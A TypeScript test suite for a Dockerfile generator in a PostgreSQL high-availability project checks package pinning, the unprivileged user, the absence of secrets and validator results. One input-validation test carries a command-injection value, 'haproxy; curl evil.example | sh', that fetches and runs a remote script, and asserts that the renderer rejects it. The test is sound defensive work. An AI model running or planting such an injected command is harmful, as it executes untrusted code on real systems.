/**
 * The Dockerfile of the Docker platform's one image, built from the reference topology's node plans
 * (archive, backups, monitoring) on the local platform: it installs exactly the plans' packages on
 * a Debian 13 point release, bakes in no file and no secret, runs as an unprivileged user, and
 * passes dockerfile-utils' validator (the checks of the VS Code Docker extension).
 */
import { RootConstruct } from 'constructs';
import { ValidationSeverity, ValidatorSettings, validate } from 'dockerfile-utils';
import { LAYOUT } from '../../../src/model/layout';
import { NodePlan } from '../../../src/model/node-plan';
import { DEBIAN_BASE_IMAGE, dockerImagePackages, dockerRuntimePackages, renderDockerfile } from '../../../src/platform/docker/dockerfile';
import { LocalPlatform } from '../../../src/platform/local/local-platform';
import { generateSecrets } from '../../../src/runner/node-directory';
import { HaTopologyProps, haTopology } from '../../../stacks/ha-topology';
import { collectRenderedNodes } from '../../../src/platform/rendered-node';

const TOPOLOGY: HaTopologyProps = {
  archive: {},
  backup: { incrementalSchedule: '*-*-* 07..23/6:00:00', logicalDump: {} },
  monitoring: {},
};

interface Instruction {
  readonly keyword: string;
  readonly args: string;
}

/** Instructions as Docker reads them: continuation lines joined, comment lines (also inside continuations) dropped. */
function instructions(dockerfile: string): Instruction[] {
  const result: Instruction[] = [];
  let pending = '';
  for (const line of dockerfile.split('\n')) {
    if (/^\s*#/.test(line)) continue;
    if (!pending && line.trim() === '') continue;
    const continued = line.endsWith('\\');
    pending += continued ? `${line.slice(0, -1)} ` : line;
    if (!continued) {
      const match = /^\s*(\S+)\s*(.*)$/s.exec(pending)!;
      result.push({ keyword: match[1].toUpperCase(), args: match[2].replace(/\s+/g, ' ').trim() });
      pending = '';
    }
  }
  return result;
}

/** The commands of a shell-form RUN, split at `;` and `&&` outside quotes (an `if` up to its `fi` stays whole). */
function commands(run: string): string[] {
  const out: string[] = [];
  let current = '';
  let quote: string | undefined;
  for (let i = 0; i < run.length; i++) {
    const c = run[i];
    if (quote) {
      if (c === quote) quote = undefined;
      current += c;
    } else if (c === "'" || c === '"') {
      quote = c;
      current += c;
    } else if (c === ';' || (c === '&' && run[i + 1] === '&')) {
      if (c === '&') i++;
      out.push(current.trim());
      current = '';
    } else current += c;
  }
  out.push(current.trim());
  // `if ...; then ...; fi` is one command.
  const merged: string[] = [];
  let open: string[] | undefined;
  for (const part of out.filter((command) => command !== '')) {
    if (open) open.push(part);
    else if (/^if\b/.test(part)) open = [part];
    else merged.push(part);
    if (open && part === 'fi') {
      merged.push(open.join('; '));
      open = undefined;
    }
  }
  if (open) throw new Error(`an if without fi: ${open.join('; ')}`);
  return merged;
}

/** Every rule of the validator at its strictest: a warning counts as much as an error. */
const STRICT: ValidatorSettings = {
  deprecatedMaintainer: ValidationSeverity.ERROR,
  directiveCasing: ValidationSeverity.ERROR,
  emptyContinuationLine: ValidationSeverity.ERROR,
  instructionCasing: ValidationSeverity.ERROR,
  instructionCmdMultiple: ValidationSeverity.ERROR,
  instructionEntrypointMultiple: ValidationSeverity.ERROR,
  instructionHealthcheckMultiple: ValidationSeverity.ERROR,
  instructionJSONInSingleQuotes: ValidationSeverity.ERROR,
  instructionWorkdirRelative: ValidationSeverity.ERROR,
};

describe('the Docker image of the reference topology', () => {
  let plans: NodePlan[];
  let platform: LocalPlatform;
  let dockerfile: string;
  let parsed: Instruction[];
  let runCommands: string[];
  beforeAll(() => {
    const root = new RootConstruct('docker-image');
    platform = new LocalPlatform(root, 'Platform', { addressBlock: 98, archiveStore: { type: 'posix', dir: '/nonexistent/archive-store' } });
    haTopology(root, platform, TOPOLOGY);
    plans = collectRenderedNodes(root).map((node) => node.plan);
    dockerfile = renderDockerfile({ plans });
    parsed = instructions(dockerfile);
    const runs = parsed.filter((i) => i.keyword === 'RUN');
    expect(runs).toHaveLength(1);
    runCommands = commands(runs[0].args);
  });

  test('THEN the plans are those of the whole topology: PostgreSQL nodes with backups and exporters, and proxies', () => {
    expect(plans.map((p) => p.name)).toEqual(['main-pg-1', 'main-pg-2', 'main-pg-3', 'main-proxy-1', 'main-proxy-2']);
    expect(plans[0].jobs?.length).toBeGreaterThan(0);
    expect(plans.flatMap((p) => p.services.map((s) => s.name))).toEqual(expect.arrayContaining(['pgha-patroni', 'pgha-etcd', 'pgha-haproxy', 'pgha-postgres-exporter']));
  });

  test('THEN it installs exactly the union of the plans\' packages and the platform\'s runtime packages, with no recommends, in one RUN that updates and removes the lists', () => {
    const planned = [...new Set(plans.flatMap((p) => p.packages))].sort();
    expect(dockerImagePackages(plans)).toEqual(planned);
    // The plans have jobs: their containers need systemd-analyze (and nothing else is added).
    expect(dockerRuntimePackages(plans).map((extra) => extra.name)).toEqual(['systemd']);
    expect(planned).not.toContain('systemd');
    const union = [...planned, 'systemd'].sort();
    expect(dockerfile).toMatch(/^# {5}systemd: systemd-analyze calendar/m);
    const installs = runCommands.filter((c) => /\bapt-get install\b/.test(c));
    expect(installs).toHaveLength(1);
    const words = installs[0].split(' ');
    expect(words.slice(0, 2)).toEqual(['apt-get', 'install']);
    expect(words.filter((w) => w.startsWith('-'))).toEqual(['-y', '--no-install-recommends']);
    expect(words.slice(2).filter((w) => !w.startsWith('-'))).toEqual(union);
    // Nothing the AWS platform adds for its boot script, since no plan names it.
    expect(union).not.toContain('awscli');
    expect(union).not.toContain('curl');

    const install = runCommands.indexOf(installs[0]);
    expect(runCommands.indexOf('apt-get update')).toBeGreaterThan(-1);
    expect(runCommands.indexOf('apt-get update')).toBeLessThan(install);
    expect(runCommands.indexOf('rm -rf /var/lib/apt/lists/*')).toBeGreaterThan(install);
    expect(runCommands.indexOf('export DEBIAN_FRONTEND=noninteractive')).toBeLessThan(runCommands.indexOf('apt-get update'));
    expect(runCommands[0]).toBe('set -eu');
  });

  test('THEN the base image is Debian 13 pinned by a point-release tag', () => {
    const froms = parsed.filter((i) => i.keyword === 'FROM');
    expect(froms).toHaveLength(1);
    expect(froms[0].args).toBe(DEBIAN_BASE_IMAGE);
    expect(froms[0].args).toMatch(/^debian:13\.\d+(-slim)?$/);
    expect(froms[0].args).not.toMatch(/:latest$|:13$|:13-slim$|:trixie|:stable|:12|:bookworm/);
    expect(dockerfile).toContain('Debian 13 node image of cdktf-postgres-ha');
  });

  test('THEN it runs as an unprivileged user by default, and says which user each service needs', () => {
    const users = parsed.filter((i) => i.keyword === 'USER');
    expect(users.length).toBeGreaterThan(0);
    const [user, group] = users[users.length - 1].args.split(':');
    expect(user).not.toMatch(/^(root|0)$/);
    expect(group).not.toMatch(/^(root|0)$/);
    expect(user).toBe('nobody');
    for (const plan of plans) {
      for (const service of plan.services) {
        expect(service.user).not.toBe('root');
        const line = dockerfile.split('\n').find((l) => l.startsWith(`#   ${service.user}:`));
        expect(line).toBeDefined();
        expect(dockerfile).toContain(service.name);
      }
    }
    expect(dockerfile).toMatch(/^# None of them needs root/m);
  });

  test('THEN it starts nothing of its own: no ENTRYPOINT, no CMD, a STOPSIGNAL, and the generated-by header', () => {
    const keywords = parsed.map((i) => i.keyword);
    expect(keywords).not.toContain('ENTRYPOINT');
    expect(keywords).not.toContain('CMD');
    expect(parsed.filter((i) => i.keyword === 'STOPSIGNAL').map((i) => i.args)).toEqual(['SIGTERM']);
    expect(dockerfile.split('\n')[0]).toMatch(/^# generated by cdktf-postgres-ha/i);
  });

  test('THEN no file of the plans is baked in: no COPY or ADD, and no line of any file but the createcluster drop-in', () => {
    const keywords = parsed.map((i) => i.keyword);
    expect(keywords).not.toContain('COPY');
    expect(keywords).not.toContain('ADD');
    let checked = 0;
    for (const plan of plans) {
      for (const file of plan.files) {
        if (file.path === LAYOUT.createClusterDropIn) continue;
        for (const line of file.content.split('\n').map((l) => l.trim())) {
          if (line.length < 16) continue;
          checked++;
          if (dockerfile.includes(line)) throw new Error(`${plan.name}:${file.path}: the Dockerfile holds its line "${line}"`);
        }
        expect(dockerfile).not.toContain(file.path);
      }
    }
    expect(checked).toBeGreaterThan(1000);
  });

  test('THEN the createcluster drop-in is written, with the plans\' content, before the packages install', () => {
    const content = plans[0].files.find((f) => f.path === LAYOUT.createClusterDropIn)!.content;
    const write = runCommands.findIndex((c) => c.endsWith(`> ${LAYOUT.createClusterDropIn}`));
    expect(write).toBeGreaterThan(-1);
    expect(write).toBeLessThan(runCommands.findIndex((c) => c.startsWith('apt-get install')));
    const printed = runCommands[write].replace(/^printf '%s\\n' /, '').replace(/ > \S+$/, '');
    const lines = [...printed.matchAll(/'((?:[^']|'\\'')*)'/g)].map((m) => m[1].replace(/'\\''/g, "'"));
    expect(`${lines.join('\n')}\n`).toBe(content);
    expect(content).toMatch(/^create_main_cluster = false$/m);
  });

  test('THEN a policy-rc.d keeps package scripts from starting services during the install, and the same RUN removes its own', () => {
    const create = runCommands.findIndex((c) => c.includes("printf '#!/bin/sh\\nexit 101\\n' > /usr/sbin/policy-rc.d"));
    const install = runCommands.findIndex((c) => c.startsWith('apt-get install'));
    const remove = runCommands.findIndex((c) => c.includes('rm -f /usr/sbin/policy-rc.d'));
    expect(create).toBeGreaterThan(-1);
    expect(create).toBeLessThan(install);
    expect(remove).toBeGreaterThan(install);
    // It removes only the one it wrote: the Debian base image ships its own, which stays.
    expect(runCommands[create]).toMatch(/^if \[ ! -e \/usr\/sbin\/policy-rc.d \]; then .*created_policy=true; fi$/);
    expect(runCommands[remove]).toBe('if [ "$created_policy" = true ]; then rm -f /usr/sbin/policy-rc.d; fi');
  });

  test('THEN no secret is in it: none of the generated values, no secret file, no ENV or ARG, nothing secret-like', () => {
    expect(platform.secrets.length).toBeGreaterThan(0);
    const values = generateSecrets(platform.secrets);
    for (const secret of Object.values(values)) {
      for (const value of Object.values(secret)) if (value.length >= 8) expect(dockerfile).not.toContain(value);
    }
    for (const plan of plans) {
      for (const secret of plan.secrets) expect(dockerfile).not.toContain(secret.environmentFile);
      for (const file of plan.secretFiles ?? []) expect(dockerfile).not.toContain(file.path);
    }
    expect(parsed.map((i) => i.keyword)).not.toContain('ENV');
    expect(parsed.map((i) => i.keyword)).not.toContain('ARG');
    expect(dockerfile).not.toMatch(/(PASSWORD|PASSPHRASE|SECRET|TOKEN|_KEY)\s*=/i);
    expect(dockerfile).not.toMatch(/BEGIN [A-Z ]*PRIVATE KEY/);
    // The snakeoil key ssl-cert generates at install would be shared by everyone holding the image.
    expect(runCommands).toContain('rm -f /etc/ssl/private/ssl-cert-snakeoil.key /etc/ssl/certs/ssl-cert-snakeoil.pem');
    expect(runCommands.indexOf('rm -f /etc/ssl/private/ssl-cert-snakeoil.key /etc/ssl/certs/ssl-cert-snakeoil.pem')).toBeGreaterThan(
      runCommands.findIndex((c) => c.startsWith('apt-get install')),
    );
  });

  test('THEN its OCI labels name the project and the package list', () => {
    const label = parsed.find((i) => i.keyword === 'LABEL')!.args;
    expect(label).toContain('org.opencontainers.image.title="cdktf-postgres-ha node"');
    const description = /org\.opencontainers\.image\.description="([^"]*)"/.exec(label)![1];
    expect(description).toContain('cdktf-postgres-ha');
    expect(description.replace(/^.*packages: /, '').split(' ')).toEqual([...dockerImagePackages(plans), ...dockerRuntimePackages(plans).map((extra) => extra.name)].sort());
    expect(label).toContain(`org.opencontainers.image.base.name="${DEBIAN_BASE_IMAGE}"`);
  });

  test('THEN dockerfile-utils finds nothing, at default and at strictest settings', () => {
    expect(validate(dockerfile)).toEqual([]);
    expect(validate(dockerfile, STRICT)).toEqual([]);
  });

  test.each([
    ['a signal that is neither SIG... nor a number', (text: string) => text.replace('STOPSIGNAL SIGTERM', 'STOPSIGNAL TERM'), /Invalid signal: TERM/],
    ['no FROM', (text: string) => text.replace(/^FROM .*$/m, ''), /No source image/],
    ['an empty image tag', (text: string) => text.replace(`FROM ${DEBIAN_BASE_IMAGE}`, 'FROM debian:'), /invalid reference format/],
    ['a lowercase instruction', (text: string) => text.replace('\nUSER ', '\nuser '), /uppercase/],
    ['an empty continuation line', (text: string) => text.replace('apt-get update; \\\n', 'apt-get update; \\\n\n'), /Empty continuation line/],
    ['a LABEL without a value', (text: string) => text.replace('org.opencontainers.image.licenses="Apache-2.0"', 'org.opencontainers.image.licenses'), /can't find = /],
  ])('WHEN a copy has %s THEN dockerfile-utils reports it (negative control)', (_what, breakIt, message) => {
    const broken = breakIt(dockerfile);
    expect(broken).not.toBe(dockerfile);
    const diagnostics = validate(broken, STRICT);
    expect(diagnostics.length).toBeGreaterThan(0);
    expect(diagnostics.map((d) => d.message).join('\n')).toMatch(message);
  });
});

describe('renderDockerfile input checks', () => {
  const plan = (over: Partial<NodePlan> = {}): NodePlan => ({
    name: 'n1',
    group: 'g',
    address: '10.0.1.10',
    packages: ['haproxy'],
    directories: [],
    files: [],
    services: [{ name: 'pgha-haproxy', description: 'HAProxy', user: 'haproxy', group: 'haproxy', command: ['/usr/sbin/haproxy'] }],
    replacesServices: ['haproxy'],
    ports: [{ port: 5000, purpose: 'PostgreSQL read-write', from: [] }],
    secrets: [],
    ...over,
  });

  test('WHEN no plan has jobs THEN no runtime package is added: the install line is exactly the plans\' packages', () => {
    expect(dockerRuntimePackages([plan()])).toEqual([]);
    const text = renderDockerfile({ plans: [plan()] });
    expect(text).toMatch(/apt-get install -y --no-install-recommends \\\n\s+haproxy; \\/);
    expect(text).not.toMatch(/systemd-analyze|^ +systemd\b/m);
    expect(text).toContain('#   nothing else.');
  });

  test('WHEN a base image is given pinned by tag or digest THEN it is used as given', () => {
    for (const baseImage of [
      'debian:13.8-slim',
      'debian:13.1',
      'debian:trixie-20261117-slim',
      'debian:trixie-20261117',
      'registry.example.com:5000/mirror/debian:13.8',
      'registry.example.com/base/trixie-pgha:2026.07',
      `debian@sha256:${'a'.repeat(64)}`,
      `debian:13-slim@sha256:${'a'.repeat(64)}`,
      `debian:trixie@sha256:${'a'.repeat(64)}`,
    ]) {
      expect(renderDockerfile({ plans: [plan()], baseImage })).toContain(`\nFROM ${baseImage}\n`);
    }
  });

  test.each([
    // moving tags
    'debian',
    'debian:latest',
    'debian:13',
    'debian:13-slim',
    'debian:trixie',
    'debian:trixie-slim',
    'debian:stable',
    'debian:stable-slim',
    'mirror/debian:13',
    'other:latest',
    // Debian 12, pinned or not, and with a digest too: the node packages are Debian 13's
    'debian:12.15-slim',
    'debian:12',
    'debian:bookworm-20260824-slim',
    'debian:bookworm-slim',
    'debian:oldstable',
    `debian:12-slim@sha256:${'a'.repeat(64)}`,
    'registry.example.com:5000/mirror/debian:12.15',
    // another release, and what is not an image reference
    'debian:14.1-slim',
    'debian:forky-20270101-slim',
    'debian:13.8.1-slim',
    'Debian:13.8',
    'debian:13.8 AS x',
    '',
  ])('WHEN the base image is "%s" THEN it is refused', (baseImage) => {
    expect(() => renderDockerfile({ plans: [plan()], baseImage })).toThrow(
      /baseImage: got .*; expected a Debian 13 image pinned by a tag that does not move \(a point release such as "debian:13\.8-slim".*not "latest", "stable", "13", "trixie" or a Debian 12 tag\) or by digest\. Fix: name the Debian 13 point release\./,
    );
  });

  test('WHEN a package name is not a Debian package name THEN nothing is rendered and the plan is named', () => {
    expect(() => renderDockerfile({ plans: [plan({ packages: ['haproxy; curl evil.example | sh'] })] })).toThrow(/plans n1: packages: got "haproxy; curl/);
  });

  test('WHEN there are no plans or no packages THEN it is refused', () => {
    expect(() => renderDockerfile({ plans: [] })).toThrow(/plans: got none/);
    expect(() => renderDockerfile({ plans: [plan({ packages: [] })] })).toThrow(/got no packages/);
  });

  test('WHEN two plans disagree on the createcluster drop-in THEN it is refused; WHEN none has it THEN the default keeps the main cluster away', () => {
    const dropIn = (content: string) => ({ path: LAYOUT.createClusterDropIn, mode: '0644', owner: 'root:root', content });
    expect(() =>
      renderDockerfile({ plans: [plan({ files: [dropIn('create_main_cluster = false\n')] }), plan({ name: 'n2', files: [dropIn('create_main_cluster = false # x\n')] })] }),
    ).toThrow(/2 different contents/);
    expect(() => renderDockerfile({ plans: [plan({ files: [dropIn('create_main_cluster = true\n')] })] })).toThrow(/create_main_cluster = false/);
    expect(renderDockerfile({ plans: [plan()] })).toContain(`'create_main_cluster = false' > ${LAYOUT.createClusterDropIn}`);
  });

  test('WHEN a service runs as root THEN the comment says so instead of claiming none needs root; the image user stays unprivileged', () => {
    const text = renderDockerfile({
      plans: [plan({ services: [{ name: 'pgha-thing', description: 't', user: 'root', group: 'root', command: ['/bin/true'] }], ports: [{ port: 80, purpose: 'x', from: [] }] })],
    });
    expect(text).toContain('# Run as root, because their plans say so: pgha-thing.');
    expect(text).toContain('# Ports below 1024 in the plans: 80;');
    expect(text).not.toContain('None of them');
    expect(text).toMatch(/^USER nobody:nogroup$/m);
    expect(validate(text, STRICT)).toEqual([]);
  });
});
